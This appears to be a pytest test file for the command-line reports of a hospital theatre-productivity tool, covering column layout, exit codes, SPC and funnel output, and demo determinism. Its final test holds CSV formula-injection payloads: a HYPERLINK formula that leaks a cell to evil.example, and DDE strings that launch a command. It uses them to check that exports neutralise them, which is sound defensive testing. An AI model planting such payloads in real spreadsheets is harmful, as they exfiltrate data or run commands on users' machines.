"""The CLI contract (SPEC §7): report columns and values, exit codes, demo determinism."""

from __future__ import annotations

import io
import json
import os
import subprocess
import sys
from contextlib import redirect_stderr, redirect_stdout
from pathlib import Path

import pandas as pd
import pytest
from sqlalchemy import Engine, select

from productivity import cli
from productivity.store import marts, models, reference
from productivity.store.db import bulk_insert, write_transaction
from tests.test_metrics_theatre import CASES, LISTS

REPORT_COLUMNS = [
    "trust_code",
    "lists",
    "planned_minutes",
    "capped_touch_minutes",
    "uncapped_touch_minutes",
    "capped_utilisation",
    "uncapped_utilisation",
    "late_start_share",
    "mean_late_start_minutes",
    "early_finish_share",
    "median_gap_minutes",
    "completed_cases",
    "cases_per_list",
    "otd_cancellation_rate",
    "pooled_additional_cases",
    "realisable_additional_cases",
]


def run_cli(*args: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    with redirect_stdout(out), redirect_stderr(err):
        code = cli.main(list(args))
    return code, out.getvalue(), err.getvalue()


@pytest.fixture
def hand_store(engine: Engine, monkeypatch: pytest.MonkeyPatch) -> Engine:
    """The five hand-computed lists of test_metrics_theatre, loaded through the store."""
    with write_transaction(engine) as conn:
        reference.seed_reference(conn)
        lists = LISTS.assign(session_date=LISTS["session_date"].dt.date)
        bulk_insert(conn, "theatre_list", lists)
        bulk_insert(conn, "theatre_case", CASES)
    marts.rebuild_marts(engine)
    monkeypatch.setenv("DATABASE_URL", str(engine.url.render_as_string(hide_password=False)))
    return engine


def test_report_theatre_by_trust_matches_hand_computation(hand_store: Engine):
    code, out, err = run_cli("report", "theatre", "--by", "trust", "--format", "csv")
    assert code == 0, err
    frame = pd.read_csv(io.StringIO(out))
    assert list(frame.columns) == REPORT_COLUMNS
    row = frame.iloc[0]
    # Worked out in tests/test_metrics_theatre.py::test_trust_summary_is_ratio_of_sums.
    assert row["trust_code"] == "RBL" and row["lists"] == 5
    assert row["planned_minutes"] == 1200 and row["capped_touch_minutes"] == 675
    assert row["uncapped_touch_minutes"] == 880
    assert row["capped_utilisation"] == pytest.approx(0.5625)
    assert row["late_start_share"] == pytest.approx(0.5)
    assert row["mean_late_start_minutes"] == pytest.approx(16.25)
    assert row["early_finish_share"] == pytest.approx(0.25)
    assert row["median_gap_minutes"] == 15
    assert row["completed_cases"] == 8 and row["cases_per_list"] == pytest.approx(1.6)
    assert row["otd_cancellation_rate"] == pytest.approx(0.1)
    # Mean case = (200 + 245 + 385 + 60) / 8 = 111.25 min. Gaps to 85% of 240 = 204 min:
    # list 1: 14, list 2: 0, list 3: 0, list 4 (unused): 204, list 5: 144 -> floor(204/111.25)
    # = 1 and floor(144/111.25) = 1 -> 2 realisable. Pooled: (1020 - 675) / 111.25 = 3.1011.
    assert row["realisable_additional_cases"] == 2
    assert row["pooled_additional_cases"] == pytest.approx(345 / 111.25)


def test_report_json_and_period_filter(hand_store: Engine):
    code, out, _ = run_cli("report", "theatre", "--by", "month", "--format", "json")
    assert code == 0
    rows = json.loads(out)
    assert [r["month"] for r in rows] == ["2026-03"]
    code, out, _ = run_cli("report", "theatre", "--from", "2026-04", "--to", "2026-05")
    assert code == 0 and pd.read_csv(io.StringIO(out)).empty


def test_report_json_floats_read_back_exactly_as_the_csv_gives_them(hand_store: Engine):
    # pooled = 345 / 111.25 = 3.101123595505618 (16 digits): JSON once kept 15.
    rows = {}
    for fmt in ("json", "csv"):
        code, out, _ = run_cli("report", "theatre", "--by", "trust", "--format", fmt)
        assert code == 0
        rows[fmt] = json.loads(out)[0] if fmt == "json" else pd.read_csv(io.StringIO(out)).iloc[0]
    assert rows["json"]["pooled_additional_cases"] == 345 / 111.25
    for column in REPORT_COLUMNS[1:]:
        from_csv = rows["csv"][column]
        assert rows["json"][column] == (None if pd.isna(from_csv) else from_csv), column


@pytest.mark.parametrize(
    "args",
    [
        ("report", "theatre", "--from", "2026-13"),
        ("report", "nonsense"),
        ("spc", "/nonexistent.csv", "--date-col", "d", "--value-col", "v"),
    ],
)
def test_bad_input_exits_2(args: tuple[str, ...], hand_store: Engine):
    code, _, err = run_cli(*args)
    assert code == 2
    assert "Traceback" not in err


def test_spc_csv_error_names_file_row_and_column(tmp_path: Path):
    series = tmp_path / "series.csv"
    series.write_text("week,value\n2026-01-05,0.8\n2026-01-12,oops\n")
    code, _, err = run_cli("spc", str(series), "--date-col", "week", "--value-col", "value")
    assert code == 2
    assert "series.csv" in err and "row 3" in err and "'value'" in err


def test_spc_and_funnel_commands(tmp_path: Path):
    series = tmp_path / "series.csv"
    values = [0.70, 0.72, 0.69, 0.71, 0.70, 0.73, 0.71, 0.70, 0.72, 0.71, 0.69, 0.70, 0.95]
    weeks = pd.date_range("2026-01-05", periods=len(values), freq="7D").strftime("%Y-%m-%d")
    pd.DataFrame({"week": weeks, "value": values}).to_csv(series, index=False)
    code, out, _ = run_cli("spc", str(series), "--date-col", "week", "--value-col", "value")
    assert code == 0
    points = pd.read_csv(io.StringIO(out))
    assert list(points.columns) == [
        "date",
        "value",
        "mean",
        "lower_limit",
        "upper_limit",
        "special_cause",
        "point_type",
        "rule",
    ]
    assert points["rule"].iloc[-1] == "outside_limits"
    code, out, _ = run_cli(
        "spc",
        str(series),
        "--date-col",
        "week",
        "--value-col",
        "value",
        "--format",
        "json",
        "--target",
        "0.85",
    )
    payload = json.loads(out)
    assert set(payload) >= {"points", "variation", "assurance", "periods"}

    units = tmp_path / "units.csv"
    units.write_text("trust,touch,planned\nA,80,100\nB,700,1000\nC,9000,10000\n")
    code, out, _ = run_cli(
        "funnel",
        str(units),
        "--unit-col",
        "trust",
        "--numerator-col",
        "touch",
        "--denominator-col",
        "planned",
    )
    assert code == 0
    table = pd.read_csv(io.StringIO(out))
    assert list(table.columns) == [
        "unit",
        "numerator",
        "denominator",
        "proportion",
        "target",
        "lower_95",
        "upper_95",
        "lower_998",
        "upper_998",
        "flag",
    ]


def test_benchmarks_command():
    code, out, _ = run_cli("benchmarks")
    assert code == 0
    table = pd.read_csv(io.StringIO(out))
    assert {"key", "value", "source", "status", "effective"} <= set(table.columns)
    assert "theatre_capped_utilisation" in set(table["key"])


def test_demo_is_deterministic_and_reports_run(demo_engine: Engine, tmp_path: Path):
    """A second demo with the same seed gives identical tables (compared in a fresh store)."""
    from productivity.synth import demo
    from tests.conftest import fresh_store, store_url

    other = fresh_store(store_url(tmp_path, "again.db"))
    demo.build_demo(engine=other, seed=1, months=3)
    for model in (models.TheatreList, models.TheatreCase, models.ScannerDay, models.DM01Return):
        table = model.__table__
        order = list(table.primary_key.columns)
        with demo_engine.connect() as a, other.connect() as b:
            first = pd.read_sql_query(select(table).order_by(*order), a)
            second = pd.read_sql_query(select(table).order_by(*order), b)
        pd.testing.assert_frame_equal(
            first.drop(columns=["import_run_id"], errors="ignore"),
            second.drop(columns=["import_run_id"], errors="ignore"),
        )
    assert not first.empty


def test_cli_subprocess_report_on_demo(demo_url: str):
    env = {**os.environ, "DATABASE_URL": demo_url}
    result = subprocess.run(
        [sys.executable, "-m", "productivity", "report", "theatre", "--by", "trust"],
        capture_output=True,
        text=True,
        env=env,
        check=False,
    )
    assert result.returncode == 0, result.stderr
    frame = pd.read_csv(io.StringIO(result.stdout))
    assert list(frame.columns) == REPORT_COLUMNS
    assert len(frame) >= 10
    assert frame["capped_utilisation"].between(0, 1).all()


def test_report_applies_the_thresholds_in_force(hand_store: Engine, tmp_path: Path, monkeypatch):
    """A local override of a threshold applies at once, without rebuilding the marts."""
    override = tmp_path / "local.toml"
    override.write_text("[late_start_minutes]\nvalue = 5\n")
    monkeypatch.setenv("PRODUCTIVITY_BENCHMARKS", str(override))
    code, out, _ = run_cli("report", "theatre")
    assert code == 0
    # Late starts 10, 20, 5, 30 minutes on the four used lists: > 5 is 3 of 4.
    assert pd.read_csv(io.StringIO(out))["late_start_share"].iloc[0] == pytest.approx(0.75)


def test_report_on_a_new_store(tmp_path: Path, monkeypatch):
    """A store that does not exist yet gets its schema, and every report is empty, exit 0."""
    if os.environ.get("TEST_DATABASE_URL"):
        pytest.skip("needs a brand-new store file")
    monkeypatch.setenv("DATABASE_URL", f"sqlite:///{tmp_path / 'new.db'}")
    for kind in ("theatre", "imaging", "dm01", "echo", "endoscopy"):
        code, out, err = run_cli("report", kind)
        assert code == 0, err
        assert pd.read_csv(io.StringIO(out)).empty


@pytest.mark.parametrize(
    ("content", "row", "column", "fragment"),
    [
        ("date,value\n2026-01-01,1\n2026-01-01,2\n2026-01-02,3\n", 3, "date", "earlier row"),
        ("date,value\n", 1, None, "no data rows"),
        ("date,value\n2026-01-01,1\n2026-01-02,inf\n2026-01-03,3\n", 3, "value", "finite"),
        ("date,value\n2026-01-01,1\n2026-01-02,-inf\n", 3, "value", "finite"),
    ],
)
def test_spc_bad_series_exit_2_with_the_row(tmp_path: Path, content, row, column, fragment):
    """Duplicate dates, a header-only file or inf used to exit 1 with a bare ValueError."""
    path = tmp_path / "series.csv"
    path.write_text(content)
    code, _, err = run_cli("spc", str(path), "--date-col", "date", "--value-col", "value")
    assert code == cli.EXIT_BAD_INPUT, err
    where = f"row {row}" + (f", column '{column}'" if column else "")
    assert f"series.csv, {where}" in err and fragment in err


def test_report_csv_neutralises_formulas_from_data(engine: Engine, tmp_path: Path, monkeypatch):
    """A theatre named ``=HYPERLINK(...)`` comes back as text, never as a formula."""
    from productivity import ingest

    sample = Path(__file__).resolve().parent.parent / "data" / "samples"
    frame = pd.read_csv(sample / "theatre-extract-RBL-May-2026.csv", dtype=str,
                        keep_default_na=False)  # fmt: skip
    evil = {"Theatre 1": '=HYPERLINK("http://evil.example/?"&A1,"open")',
            "Theatre 2": "+cmd|' /C calc'!A0", "Theatre 3": "@SUM(1+1)*cmd|' /C calc'!A0",
            "Theatre 4": "-2+3+cmd|' /C calc'!A0"}  # fmt: skip
    frame["theatre"] = frame["theatre"].replace(evil)
    path = tmp_path / "evil.csv"
    frame.to_csv(path, index=False)
    ingest.import_file(path, engine=engine)
    marts.rebuild_marts(engine)
    monkeypatch.setenv("DATABASE_URL", engine.url.render_as_string(hide_password=False))
    code, out, err = run_cli("report", "theatre", "--by", "theatre", "--format", "csv")
    assert code == 0, err
    names = pd.read_csv(io.StringIO(out), dtype=str)["theatre"].tolist()
    for name in evil.values():
        assert "'" + name in names, name
    assert not any(n.startswith(("=", "+", "-", "@")) for n in names)
    numbers = pd.read_csv(io.StringIO(out))["planned_minutes"]
    assert pd.api.types.is_numeric_dtype(numbers)  # numbers are untouched
